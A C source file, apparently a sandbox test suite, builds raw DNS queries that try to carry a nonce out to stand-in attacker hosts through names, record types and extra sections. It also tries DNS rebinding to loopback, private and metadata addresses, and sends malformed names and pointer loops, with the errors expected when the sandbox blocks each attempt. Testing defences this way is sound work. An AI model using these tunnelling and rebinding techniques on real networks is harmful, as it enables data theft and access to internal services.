/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Data in questions, answers that lie, addresses that were not resolved. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define NXDOMAIN 3
#define REFUSED 5

struct question {
	const char *name; /* %s: the nonce */
	uint16_t type, class_;
	uint8_t opcode;
	bool tcp;
	const char *server; /* NULL: the one that resolv.conf names */
	int port;
	const uint8_t *tail; /* behind the question: another section, or nothing that it is */
	size_t tail_len;
	uint16_t qdcount, arcount, nscount;
};

static size_t labels(const char *name, uint8_t *out)
{
	size_t n = 0;

	while (*name) {
		size_t len = strcspn(name, ".");

		out[n++] = (uint8_t)len;
		memcpy(out + n, name, len);
		n += len;
		name += len + (name[len] == '.');
	}
	out[n++] = 0;
	return n;
}

static void put16(uint8_t *at, uint16_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static size_t header(uint8_t *out, const struct question *q)
{
	memset(out, 0, 12);
	put16(out, 0x4711);
	out[2] = (uint8_t)(q->opcode << 3 | 1);
	put16(out + 4, q->qdcount ? q->qdcount : 1);
	put16(out + 8, q->nscount);
	put16(out + 10, q->arcount);
	return 12;
}

static size_t encode(const struct question *q, uint8_t *out)
{
	char name[256];
	size_t n = header(out, q);

	snprintf(name, sizeof(name), q->name, world.hex);
	n += labels(name, out + n);
	put16(out + n, q->type ? q->type : 1);
	put16(out + n + 2, q->class_ ? q->class_ : 1);
	n += 4;
	memcpy(out + n, q->tail, q->tail_len);
	return n + q->tail_len;
}

/* The answer's length, or -errno. */
static int exchange(const struct question *q, const uint8_t *out, size_t n, uint8_t *in,
		    size_t size)
{
	const struct dest to = { q->server ? q->server : DNS4, q->port ? q->port : 53 };
	struct sockaddr_storage ss;
	socklen_t len = to_sockaddr(&to, &ss);
	int fd = open_socket(ss.ss_family, q->tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
	uint8_t framed[600];
	ssize_t got;

	if (fd < 0)
		return fd;
	if (connect(fd, (void *)&ss, len))
		return -errno;
	put16(framed, (uint16_t)n);
	memcpy(framed + 2, out, n);
	if (send(fd, q->tcp ? framed : out, n + (q->tcp ? 2 : 0), MSG_NOSIGNAL) < 0)
		return -errno;
	/* what only listens has heard it all the same */
	got = recv(fd, in, size, to.port == 53 ? 0 : MSG_DONTWAIT);
	if (got < 0 && errno == EAGAIN)
		return 0;
	if (got > 2 && q->tcp)
		memmove(in, in + 2, (size_t)(got -= 2));
	return result(got);
}

/* A refusal is an answer, too: no such name. */
static int outcome(const uint8_t *in, int got)
{
	if (got < 4)
		return got < 0 ? got : 0;
	switch (in[3] & 15) {
	case 0:
		return 0;
	case NXDOMAIN:
		return -ENOENT;
	case REFUSED:
		return -ECONNREFUSED;
	default:
		return -EPROTO;
	}
}

static int question(const void *arg)
{
	uint8_t out[512], in[1024] = {};
	size_t n = encode(arg, out);

	return outcome(in, exchange(arg, out, n, in, sizeof(in)));
}

/* The nonce where no name is. */
static int nonce_behind(const void *arg)
{
	struct question q = *(const struct question *)arg;
	uint8_t out[512], in[1024] = {}, tail[64];

	memcpy(tail, q.tail, q.tail_len);
	memcpy(tail + q.tail_len, world.nonce, NONCE);
	q.tail = tail;
	q.tail_len += NONCE;
	return outcome(in, exchange(&q, out, encode(&q, out), in, sizeof(in)));
}

/* Labels as they are: a zero byte or a dot inside of one. */
static int raw_name(const void *arg)
{
	static const struct question plain = {};
	const char *how = arg;
	uint8_t out[512], in[1024] = {};
	size_t n = header(out, &plain), hex = strlen(world.hex);

	out[n++] = (uint8_t)(hex + 5);
	memcpy(out + n, world.hex, hex);
	memcpy(out + n + hex, *how == '0' ? "\0evil" : ".evil", 5);
	n += hex + 5;
	n += labels(*how == 'p' ? "" : "allowed.test", out + n);
	if (*how == 'p') /* a pointer to itself instead of the end */
		put16(out + n - 1, (uint16_t)(0xc000 | (n - 1))), n++;
	put16(out + n, 1);
	put16(out + n + 2, 1);
	return outcome(in, exchange(&plain, out, n + 4, in, sizeof(in)));
}

/* ---- names that are resolved, and connected to ---------------------------------------------- */

static int resolve(const char *name, uint16_t type, struct dest *to, char *text, size_t size)
{
	struct question q = { .name = name, .type = type };
	uint8_t out[512], in[1024] = {};
	int got = exchange(&q, out, encode(&q, out), in, sizeof(in)), at, err = outcome(in, got);

	if (err || got < 12 || !(in[6] << 8 | in[7]))
		return err ? err : -ENODATA;
	for (at = 12; at < got && in[at]; at += in[at] + 1)
		;
	at += 5; /* the question; then the first answer's name, which is whole here */
	for (; at < got && in[at]; at += in[at] + 1)
		if (in[at] >= 0xc0) {
			at++;
			break;
		}
	at += 11;
	if (at + (type == 1 ? 4 : 16) > got)
		return -EPROTO;
	(void)inet_ntop(type == 1 ? AF_INET : AF_INET6, in + at, text, (socklen_t)size);
	to->addr = text;
	return 0;
}

struct named {
	const char *name;
	uint16_t type;
	int port;
};

static int rebound(const void *arg)
{
	const struct named *n = arg;
	char text[64];
	struct dest to = { .port = n->port };
	int err = resolve(n->name, n->type, &to, text, sizeof(text));

	return err ? err : tcp_to(&to);
}

/* Answered beside what was asked for. */
static int glued(const void *unused)
{
	const struct dest far = { EVIL4, NAMED };
	char text[64];
	struct dest to = { .port = NAMED };
	int err = resolve("glue.allowed.test", 1, &to, text, sizeof(text));

	(void)unused;
	return err ? err : tcp_to(&far);
}

/* Another has resolved it, or nobody. */
static int unresolved(const void *dest)
{
	return tcp_to(dest);
}

#define Q(...) &(const struct question){ __VA_ARGS__ }
#define ROW(n, f, a, e, v) { .name = n, .run = f, .arg = a, .judge = "any", .err = e, .event = v }
#define ASK(n, ...) ROW(n, question, Q(__VA_ARGS__), "ENOENT", "resolve/rule")
#define TAIL(t) .tail = (const uint8_t *)(t), .tail_len = sizeof(t) - 1
#define EVIL_NAME "%s.evil.test"
#define REBIND(n, name_, t, j, p) \
	{ .name = n, .run = rebound, .arg = &(const struct named){ name_, t, p }, .judge = j, \
	  .err = "ENODATA ENOENT", .event = "resolve/private" }

const struct attack attacks_dns[] = {
	ASK("A55:udp", .name = EVIL_NAME, .server = EVIL4),
	ASK("A55:tcp", .name = EVIL_NAME, .server = EVIL4, .tcp = true),
	ASK("A55:udp6", .name = EVIL_NAME, .server = EVIL6),
	ASK("A55:mapped", .name = EVIL_NAME, .server = "::ffff:" EVIL4),
	ASK("A55:the-resolver", .name = EVIL_NAME, .tcp = true),
	ROW("A55:dot", question, Q(.name = EVIL_NAME, .server = EVIL4, .port = 853, .tcp = true),
	    "EPERM", "connect/rule"),
	ROW("A55:https", question, Q(.name = EVIL_NAME, .server = EVIL4, .port = 443, .tcp = true),
	    "EPERM", "connect/rule"),
	ROW("A55:mdns", question, Q(.name = "%s.local", .server = "224.0.0.251", .port = 5353),
	    "EPERM", "connect/rule send/rule"),

	ASK("A56:a", .name = EVIL_NAME),
	ASK("A56:aaaa", .name = EVIL_NAME, .type = 28),
	ASK("A56:txt", .name = EVIL_NAME, .type = 16),
	ASK("A56:mx", .name = EVIL_NAME, .type = 15),
	ASK("A56:https", .name = EVIL_NAME, .type = 65),
	ASK("A56:deep", .name = "a.b.c.d.%s.e.f.evil.test"),
	ASK("A56:top", .name = "%s"),
	ROW("A56:null", question, Q(.name = EVIL_NAME, .type = 10), "ENOENT ECONNREFUSED EPROTO",
	    NULL),
	ROW("A56:any", question, Q(.name = EVIL_NAME, .type = 255), "ENOENT ECONNREFUSED EPROTO",
	    NULL),
	ROW("A56:axfr", question, Q(.name = EVIL_NAME, .type = 252, .tcp = true),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A56:ptr", question, Q(.name = "%s.in-addr.arpa", .type = 12), "ENOENT", NULL),
	ROW("A56:update", question, Q(.name = EVIL_NAME, .opcode = 5, .type = 6),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A56:notify", question, Q(.name = EVIL_NAME, .opcode = 4, .type = 6),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A56:chaos", question, Q(.name = EVIL_NAME, .class_ = 3, .type = 16),
	    "ENOENT ECONNREFUSED EPROTO", NULL),

	/* beside a name that is allowed; DROPPED: it was asked, without what was beside it */
	ROW("A57:edns", nonce_behind, Q(.name = "ok.allowed.test", .arcount = 1,
					TAIL("\0\0\x29\x04\xd0\0\0\0\0\0\x14\xfd\xe9\0\x10")),
	    "DROPPED ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:cookie", nonce_behind, Q(.name = "ok.allowed.test", .arcount = 1,
					  TAIL("\0\0\x29\x04\xd0\0\0\0\0\0\x14\0\x0a\0\x10")),
	    "DROPPED ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:junk-behind", nonce_behind, Q(.name = "ok.allowed.test", TAIL("")),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:second-question", nonce_behind, Q(.name = "ok.allowed.test", .qdcount = 2,
						   TAIL("\x10")),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:null", question, Q(.name = "%s.allowed.test", .type = 10),
	    "DROPPED ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:axfr", question, Q(.name = "%s.allowed.test", .type = 252, .tcp = true),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:update", question, Q(.name = "%s.allowed.test", .opcode = 5, .type = 6),
	    "ENOENT ECONNREFUSED EPROTO", NULL),
	ROW("A57:chaos", question, Q(.name = "%s.allowed.test", .class_ = 3),
	    "ENOENT ECONNREFUSED EPROTO", NULL),

	ROW("A58:zero-byte", raw_name, "0", "ENOENT ECONNREFUSED EPROTO EAGAIN", NULL),
	ROW("A58:dot-in-label", raw_name, ".", "ENOENT ECONNREFUSED EPROTO EAGAIN", NULL),
	ROW("A58:pointer-loop", raw_name, "p", "ENOENT ECONNREFUSED EPROTO EAGAIN", NULL),

	ASK("A59:suffix", .name = "%s.evilallowed.test"),
	ASK("A59:prefix", .name = "%s.allowed.test.evil.test"),
	ASK("A59:upper", .name = "%s.EVILALLOWED.TEST"),

	{ .name = "A61:glue", .run = glued, .judge = "evil", .err = "EPERM",
	  .event = "connect/rule" },

	REBIND("A62:loopback", "loopback.public.test", 1, "host", RELAY),
	REBIND("A62:any", "any.public.test", 1, "host", RELAY),
	REBIND("A62:private", "private.public.test", 1, "evil", PORT),
	REBIND("A62:own", "own.public.test", 1, "host", RELAY),
	REBIND("A62:metadata", "metadata.public.test", 1, "evil", PORT),
	REBIND("A62:loopback6", "loopback6.public.test", 28, "host", RELAY),
	REBIND("A62:mapped", "mapped.public.test", 28, "host", RELAY),
	REBIND("A62:unique-local", "unique-local.public.test", 28, "evil", PORT),

	{ .name = "A64:allowed", .run = rebound, .judge = "evil", .err = "", .policy = "asker",
	  .arg = &(const struct named){ "far.allowed.test", 1, NAMED } },
	{ .name = "A64:other-sandbox", .run = unresolved,
	  .arg = &(const struct dest){ EVIL4, NAMED }, .judge = "evil", .err = "EPERM",
	  .event = "connect/rule" },
	{ .name = "A68:number", .run = tcp_to, .arg = &(const struct dest){ EVIL4, NAMED },
	  .judge = "evil", .err = "EPERM", .event = "connect/rule" },
	{},
};
